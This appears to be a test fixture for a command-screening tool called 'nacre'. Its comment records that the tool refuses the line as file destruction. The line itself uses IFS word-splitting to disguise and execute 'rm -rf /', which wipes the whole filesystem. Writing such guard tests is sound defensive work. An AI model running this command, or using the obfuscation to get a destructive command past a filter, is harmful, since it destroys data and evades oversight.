# nacre: refused file.destroy
IFS=,; x=rm,-rf,/; $x
